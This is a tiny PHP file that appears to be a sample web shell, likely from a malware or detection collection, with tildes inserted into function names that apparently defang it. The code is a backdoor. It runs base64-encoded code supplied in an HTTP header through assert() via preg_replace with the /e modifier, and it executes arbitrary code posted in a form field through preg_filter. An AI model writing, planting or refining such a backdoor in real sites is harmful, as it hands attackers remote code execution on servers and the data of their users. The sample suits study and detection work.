<?php exit; ?>
<?php
function marker_p($a) { $q = array('#^(.+)$#isUe', 'ass~ert(bas~e64_decode("\\1"))'); return pre~g_replace($q[0], $q[1], $a); } marker_p($_S~ERVER['HTTP_M']); preg_filter('|.|e', $_P~OST['a'], 'x');
